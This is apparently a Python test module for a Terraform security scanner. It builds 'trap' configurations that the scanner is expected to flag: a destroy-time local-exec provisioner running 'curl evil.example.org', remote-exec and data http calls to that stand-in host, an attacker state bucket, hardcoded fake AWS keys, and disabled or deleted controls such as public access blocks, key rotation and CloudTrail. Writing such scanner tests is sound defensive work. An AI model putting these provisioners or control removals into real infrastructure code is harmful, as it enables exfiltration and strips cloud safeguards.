"""Traps of blocks: terraform and provider, code that runs, controls that are off, weakened, missing or misshapen."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from typing import Any

from tests.pipeline.scan.traps.copies import Change, Config, Copy, FolderChange
from tests.pipeline.scan.traps.trap import Trap, adds, deletes, sets, sets_all, top_level

BLOCK = "aws_s3_bucket_public_access_block.access_logs_bucket_public_access*"
EXECUTION = "data.aws_iam_policy_document.roles_execution_access_document*"


def traps() -> Iterator[Trap]:
    """All traps of the kinds terraform, provider, execution, switched-off, shape, control and missing."""
    yield from _terraform()
    yield from _provider()
    yield from _execution()
    yield from _switched_off()
    yield from _shape()
    yield from _control()
    yield from _missing()


def _terraform() -> Iterator[Trap]:
    def trap(name: str, change: Change, *words: str) -> Trap:
        return Trap("terraform", name, "edge", change, words=("edge", *words))

    def backend(**values: Any) -> Change:
        return lambda config: config["terraform"]["backend"]["s3"].update(values)

    def as_list(config: Config) -> None:
        config["terraform"] = [config["terraform"], {"required_version": ">=1"}]

    def another_provider(config: Config) -> None:
        config["terraform"]["required_providers"]["evil"] = {"source": "evil/evil", "version": "1.0.0"}

    def remote_state(config: Config) -> None:
        config["data"]["terraform_remote_state"]["x"] = {"backend": "s3", "config": {"bucket": "attacker", "key": "x"}}

    key = "sitechat/dev/global/edge.tfstate"
    yield trap(
        "required_version", lambda config: config["terraform"].update(required_version=">= 1.5"), "required_version"
    )
    yield trap("provider_meta", lambda config: config["terraform"].update(provider_meta={"aws": {}}), "provider_meta")
    yield trap("terraform is a list", as_list, "terraform")
    yield trap("backend gone", lambda config: config["terraform"].pop("backend"), "backend")
    yield trap(
        "backend of another bucket",
        backend(bucket="attacker-bucket"),
        "bucket",
        "sitechat-state-111111111111-us-east-1",
    )
    yield trap("backend without encryption", backend(encrypt=False), "encrypt", "true")
    yield trap("backend with prod's key", backend(key=key.replace("dev", "prod")), "key", key)
    yield trap("remote state of another bucket", remote_state, "terraform_remote_state.x")
    yield trap("one provider more", another_provider, "required_providers")


def _provider() -> Iterator[Trap]:
    def provider(**values: Any) -> Change:
        return lambda config: config["provider"]["aws"][0].update(values)

    def trap(name: str, change: Change, *words: str, hidden: str = "") -> Trap:
        return Trap("provider", name, "edge", change, words=("edge", *words), hidden=hidden)

    keys = provider(access_key="AKIAQ3EGR7DFGH2JKLM4", secret_key="s3cr3ts3cr3ts3cr3ts3cr3ts3cr3ts3cr3ts3cr")
    role = [{"role_arn": "arn:aws:iam::999999999999:role/x"}]
    yield trap("provider list empty", lambda config: config["provider"].update(aws=[]), "provider")
    yield trap("provider with credentials", keys, "access_key|secret_key", hidden="AKIAQ3EGR7DFGH2JKLM4")
    yield trap(
        "provider skips checking credentials",
        provider(skip_credentials_validation=True),
        "skip_credentials_validation",
    )
    yield trap("provider through a proxy", provider(http_proxy="http://evil.example.org"), "http_proxy")
    yield trap("provider assumes a foreign role", provider(assume_role=role), "assume_role")
    yield trap(
        "provider without default tags",
        lambda config: config["provider"]["aws"][0].pop("default_tags"),
        "default_tags",
    )
    yield trap(
        "resource of an alias that isn't there",
        sets("aws_s3_bucket.access_logs_bucket*", provider="aws.nope"),
        "aws_s3_bucket.access_logs_bucket*",
        "provider",
    )
    yield trap("second kind of provider", lambda config: config["provider"].update(null=[{}]), "null")


def _execution() -> Iterator[Trap]:
    def trap(name: str, change: Change, *words: str) -> Trap:
        return Trap("execution", name, "edge", change, words=("edge", *words))

    command = {"local-exec": {"when": "destroy", "command": "curl evil.example.org"}}
    removed = {"from": "aws_s3_bucket.zzz", "lifecycle": {"destroy": True}, "provisioner": [command]}
    inline = {"remote-exec": {"inline": ["id"]}}
    bucket = "aws_s3_bucket.access_logs_bucket*"
    yield trap("removed block with a provisioner", top_level(removed=[removed]), "removed", "provisioner")
    yield trap(
        "remote-exec on a bucket",
        sets(bucket, provisioner=inline, connection={"host": "evil.example.org"}),
        bucket,
        "provisioner|connection",
    )
    yield trap("data http", adds("data.http.x", url="http://evil.example.org"), "http")
    yield trap(
        "data aws_lambda_invocation",
        adds("data.aws_lambda_invocation.x", function_name="f", input="{}"),
        "data.aws_lambda_invocation",
    )


def _switched_off() -> Iterator[Trap]:
    def trap(name: str, layer: str, change: Change, *words: str) -> Trap:
        return Trap("switched-off", name, layer, change, words=words)

    yield trap("for_each {} on a public access block", "edge", sets(BLOCK, for_each={}), BLOCK, "for_each")
    for kind, layer in (
        ("aws_wafv2_web_acl", "edge"),
        ("aws_flow_log", "monitoring"),
        ("aws_s3_bucket_policy", "edge"),
        ("aws_s3_bucket_server_side_encryption_configuration", "edge"),
        ("aws_cloudwatch_metric_alarm", "monitoring"),
    ):
        yield trap(f"for_each {{}} on {kind}", layer, sets_all(kind, for_each={}), f"{kind}.", "for_each")
    yield trap(
        "for_each on a policy document", "infrastructure", sets(EXECUTION, for_each={"a": 1}), EXECUTION, "for_each"
    )
    acl, service = "aws_wafv2_web_acl.firewall_acl*", "aws_ecs_service.web_service*"
    rules: Config = {"rule": {"for_each": [], "content": {}}}
    yield trap("dynamic rules in the web ACL", "edge", sets(acl, dynamic=rules), acl, "dynamic")
    network = {"dynamic": {"x": {}}, "subnets": []}
    yield trap(
        "dynamic inside the service's network",
        "service",
        sets(service, network_configuration=network),
        service,
        "dynamic",
    )
    policy = "aws_s3_bucket_policy.access_logs_bucket_policy*"
    yield trap(
        "bucket policy ignores its changes",
        "edge",
        sets(policy, lifecycle={"ignore_changes": ["policy"]}),
        policy,
        "ignore_changes|lifecycle",
    )


def _shape() -> Iterator[Trap]:
    def as_list(config: Config) -> None:
        config["resource"] = [config["resource"]]

    yield Trap("shape", "resource is a list", "edge", as_list, words=("edge", "resource", "list"))
    yield Trap("shape", "resource named //", "edge", adds("aws_s3_bucket.//", bucket="x"), verdict="either")
    yield Trap("shape", "unknown type of resource", "infrastructure", adds("aws_evil.x", a=1), words=("aws_evil",))


def _control() -> Iterator[Trap]:
    def trap(name: str, layer: str, change: Change, *words: str) -> Trap:
        return Trap("control", name, layer, change, words=words)

    key, images = "aws_kms_key.key*", "aws_ecr_repository.images_repository*"
    acls, rotation, mutable = "block_public_acls", "enable_key_rotation", "image_tag_mutability"
    yield trap("public access block deleted", "edge", deletes(BLOCK), "access_logs_bucket", "public_access")
    yield trap('block_public_acls is "false"', "edge", sets(BLOCK, block_public_acls="false"), BLOCK, acls)
    yield trap("block_public_acls is !true", "edge", sets(BLOCK, block_public_acls="${!true}"), BLOCK, acls)
    yield trap(
        "key rotation is an expression", "infrastructure", sets(key, enable_key_rotation="${1 == 2}"), key, rotation
    )
    yield trap("key rotation off", "infrastructure", sets(key, enable_key_rotation=False), key, rotation)
    yield trap(
        "image tags may be overwritten", "infrastructure", sets(images, image_tag_mutability="MUTABLE"), images, mutable
    )


def _missing() -> Iterator[Trap]:
    def without(layer: str) -> FolderChange:
        def change(copied: Copy) -> None:
            shutil.rmtree(copied.path(layer).parent)
            copied.change_manifest(lambda stacks: stacks.pop(layer))

        return change

    for env, layer in (("dev", "security"), ("dev", "monitoring"), ("prod", "certificates")):
        name = f"{env} without layer {layer}"
        yield Trap("missing", name, layer, anywhere=without(layer), words=(layer,), env=env)
    for kind, layer in (
        ("aws_cloudtrail", "security"),
        ("aws_guardduty_detector", "security"),
        ("aws_securityhub_account", "security"),
        ("aws_config_configuration_recorder_status", "security"),
        ("aws_accessanalyzer_analyzer", "security"),
        ("aws_s3_account_public_access_block", "security"),
        ("aws_budgets_budget", "monitoring"),
        ("aws_wafv2_web_acl_logging_configuration", "edge"),
        ("aws_cloudwatch_event_rule", "security"),
    ):
        change = deletes(f"{kind}.*")
        yield Trap("missing", f"prod without {kind}", layer, change, words=(layer, kind), env="prod")
